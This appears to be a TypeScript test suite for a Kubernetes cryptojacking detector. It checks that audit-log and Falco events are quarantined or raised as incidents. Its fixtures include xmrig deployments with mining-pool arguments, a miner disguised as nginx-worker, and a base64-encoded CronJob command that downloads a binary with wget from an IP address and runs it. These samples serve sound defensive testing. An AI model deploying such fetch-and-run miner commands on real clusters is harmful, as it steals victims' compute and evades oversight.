import { auditExample, containerExample, deploying, workloadExample } from '../../lambdas/core/detectors/audit-example';
import { falcoExample } from '../../lambdas/core/detectors/falco-example';
import { outcomeOf } from '../support/scenario';
import { moneroAddress } from '../support/wallets';

const WALLET = moneroAddress('scenario');

test('ATT-01: a loud deployment is quarantined on the audit log alone', () => {
  const loud = deploying({
    image: 'docker.io/xx/xmrig:latest',
    args: ['-o', 'stratum+tcp://pool.example:3333', '-u', WALLET, '--donate-level=1'],
  });
  expect(outcomeOf({ audit: [loud] })).toMatchObject({
    state: 'quarantine',
    detectors: expect.arrayContaining(['KM-A01', 'KM-A02', 'KM-A03', 'KM-A04']),
  });
});

test('ATT-05: a schedule whose command is encoded is quarantined when it is written', () => {
  const script = `wget -q http://198.51.100.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a -o pool.example:3333 -u ${WALLET} --donate-level 1`;
  const cronJob = auditExample({
    objectRef: { resource: 'cronjobs', subresource: '', apiGroup: 'batch', namespace: 'shop', name: 'tidy', uid: '' },
    workload: workloadExample(
      [containerExample({ command: ['sh', '-c', `echo ${btoa(script)} | base64 -d | sh`], args: [] })],
      {
        entity: { cluster: 'prod-a', kind: 'CronJob', namespace: 'shop', name: 'tidy', uid: 'uid-tidy' },
        schedule: '*/10 * * * *',
      },
    ),
  });
  const { state, detectors } = outcomeOf({ audit: [cronJob] });
  expect(state).toBe('quarantine');
  expect(detectors).toEqual(expect.arrayContaining(['KM-A01', 'KM-A02', 'KM-A03', 'KM-A06']));
});

test('ATT: a miner that a stranger spreads over namespaces is found as one thing', () => {
  const copies = ['shop', 'games', 'shop', 'news', 'games'].map((namespace, n) => {
    const workload = workloadExample([containerExample({ image: 'docker.io/stranger/cache:1', args: ['-u', WALLET] })]);
    return auditExample({
      auditId: `audit-${n}`,
      at: new Date(Date.parse('2026-11-23T12:00:00Z') + n * 60_000).toISOString(),
      workload: { ...workload, entity: { ...workload.entity, namespace, name: `cache-${n}`, uid: `uid-${n}` } },
    });
  });
  expect(outcomeOf({ audit: copies })).toMatchObject({
    state: 'incident',
    detectors: expect.arrayContaining(['KM-A01', 'KM-A15', 'KM-B17']),
  });
});

test('a miner that was brought into a container is an incident from Falco alone', () => {
  const alert = falcoExample({
    'proc.exepath': '/tmp/nginx-worker',
    'proc.cmdline': 'nginx-worker --algo=rx/0 --url=pool.example:10128 --cpu-priority 5',
    'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER',
  });
  expect(outcomeOf({ falco: [alert] })).toMatchObject({
    state: 'incident',
    detectors: expect.arrayContaining(['KM-F01', 'KM-F03']),
  });
});

test('names of images and programs alone are told to people and quarantine nothing', () => {
  const image = deploying({ image: 'docker.io/yenik65958/secret', args: [] });
  const program = falcoExample(
    { 'proc.exepath': '/usr/bin/xmrig', 'proc.name': 'xmrig', 'proc.cmdline': 'xmrig' },
    { rule: 'Known Cryptominer Process Executed' },
  );
  const { state, reasons } = outcomeOf({ audit: [image], falco: [program] });
  expect(state).toBe('incident');
  expect(reasons).toContain('all that is known are names of images and programs: approval needed');
});
